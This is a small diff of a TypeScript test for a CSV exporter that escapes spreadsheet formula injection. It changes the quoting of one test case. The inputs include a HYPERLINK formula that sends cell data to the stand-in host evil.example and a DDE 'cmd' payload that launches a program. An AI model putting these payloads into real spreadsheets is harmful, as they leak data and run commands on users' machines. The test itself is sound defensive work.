@@ -6,7 +6,7 @@ const rowOf = (cell: string) => toCsv(['名称'], [[cell]]).split('\r\n')[1];
 
 it.each([
   ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")"`],
-  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
   ['-2+3', "'-2+3"],
   ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
   ['\t=1+1', `'\t=1+1`],
